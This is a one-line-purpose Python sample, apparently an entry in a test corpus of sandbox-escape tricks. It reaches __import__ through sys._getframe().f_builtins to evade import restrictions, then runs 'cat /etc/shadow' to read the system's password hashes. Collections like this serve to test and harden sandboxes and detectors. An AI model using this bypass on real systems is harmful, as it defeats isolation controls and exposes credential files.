# corpus: sys._getframe() f_builtins lookup of __import__ to load os
import sys

frame = sys._getframe(0)
imp = frame.f_builtins["__import__"]
imp("os").system("cat /etc/shadow")
